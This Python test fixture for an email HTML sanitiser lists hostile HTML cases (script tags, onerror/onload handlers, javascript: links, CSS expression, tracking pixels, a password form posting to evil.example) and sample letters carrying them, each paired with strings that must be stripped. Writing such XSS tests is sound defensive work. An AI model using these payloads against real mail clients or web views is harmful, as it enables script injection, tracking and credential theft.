"""Hostile HTML letters for the web view: each tries one way to run script or to fetch from elsewhere.

Shared by the sanitiser's direct tests and the server tests. Every case marks what must never survive
(`forbidden`, compared case-insensitively against the sanitised body) and keeps a harmless word
(`kept`) that must: a sanitiser that returns nothing would pass the first check alone.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timedelta, timezone

from hanna_sync.demo import sample

EVIL = "evil.example"  # no request may ever go there


@dataclass(frozen=True)
class Case:
    name: str
    html: str
    forbidden: tuple[str, ...]
    kept: str


CASES = [
    Case("script", "<p>script-kept</p><script>window.__pwned = 1</script><SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
         ("<script", "__pwned", EVIL), "script-kept"),
    Case("onerror", '<img src="x" onerror="window.__pwned=1">handler-kept<body onload="window.__pwned=1">',
         ("onerror", "onload", "__pwned"), "handler-kept"),
    Case("javascript link", '<a href="javascript:window.__pwned=1">jslink-kept</a>'
         '<a href=" JaVaScRiPt:alert(1)">x</a><a href="jav&#x09;ascript:alert(1)">y</a>',
         ("javascript", "alert"), "jslink-kept"),
    Case("svg onload", '<svg onload="window.__pwned=1"><image href="http://evil.example/s.png"/></svg>svg-kept',
         ("<svg", "onload", EVIL), "svg-kept"),
    Case("css expression", '<div style="width: expression(window.__pwned=1); color: red">expr-kept</div>',
         ("expression", "__pwned"), "expr-kept"),
    Case("meta refresh", '<meta http-equiv="refresh" content="0; url=http://evil.example/">redirect-kept',
         ("<meta", "refresh", EVIL), "redirect-kept"),
    Case("remote image", '<img src="http://evil.example/pixel.gif?u=1" width="1" height="1">pixel-kept'
         '<img src="//evil.example/p2.gif"><img src="cid:part1@evil.example">', (EVIL, "cid:"), "pixel-kept"),
    Case("srcset", '<img src="data:image/png;base64,iVBORw0KGgo=" srcset="http://evil.example/2x.png 2x">'
         '<picture><source srcset="http://evil.example/p.webp"></picture>sources-kept', ("srcset", EVIL), "sources-kept"),
    Case("background attribute", '<table background="http://evil.example/bg.png"><tr>'
         '<td background="http://evil.example/td.png">bg-kept</td></tr></table><body background="http://evil.example/b">',
         ("background", EVIL), "bg-kept"),
    Case("style url", '<p style="background-image: url(http://evil.example/u.png)">styleurl-kept</p>'
         '<p style="background:u\\72l(http://evil.example/e.png)">x</p><style>@import "http://evil.example/i.css";</style>',
         ("url(", EVIL, "@import", "<style"), "styleurl-kept"),
    Case("base href", '<base href="http://evil.example/"><a href="relative.html">base-kept</a>',
         ("<base", EVIL, "relative.html"), "base-kept"),
    Case("form action", '<form action="http://evil.example/steal" method="post"><input name="password">'
         '<button formaction="http://evil.example/b">go</button></form>form-kept',
         ("<form", "<input", "<button", EVIL), "form-kept"),
    Case("iframe object embed", '<iframe src="http://evil.example/f"></iframe><object data="http://evil.example/o">'
         '</object><embed src="http://evil.example/e">frames-kept', ("<iframe", "<object", "<embed", EVIL), "frames-kept"),
    Case("link stylesheet", '<link rel="stylesheet" href="http://evil.example/s.css">link-kept',
         ("<link", EVIL), "link-kept"),
    Case("data url link", '<a href="data:text/html,&lt;script&gt;window.__pwned=1&lt;/script&gt;">datalink-kept</a>',
         ("data:text", "__pwned"), "datalink-kept"),
]


def xss_letter(case: Case, n: int) -> bytes:
    """The case as a customer's letter (Rūta of C-1001), so a pass archives it and links it."""
    return sample.letter("Rūta Petraitienė <ruta@azuolas.lt>", sample.STAFF, f"XSS {case.name}",
                         f"Plain alternative of {case.name}.", html=case.html,
                         message_id=f"<xss-{n}@azuolas.lt>",
                         date=datetime(2025, 4, 1, 9, 0, tzinfo=timezone.utc) + timedelta(minutes=n))


def html_attachment_letter() -> bytes:
    """A letter whose attachment is an HTML page with a script: offered as a download, never shown."""
    raw = sample.letter("Rūta Petraitienė <ruta@azuolas.lt>", sample.STAFF, "Ataskaita <b>HTML</b>",
                        "Ataskaita prisegta.", message_id="<html-attachment@azuolas.lt>",
                        date=datetime(2025, 4, 2, 9, 0, tzinfo=timezone.utc),
                        attachment=("ataskaita.html", b"<script>window.__pwned=1</script><p>attached-page</p>"))
    return raw.replace(b"Content-Type: application/octet-stream", b"Content-Type: text/html; charset=utf-8")
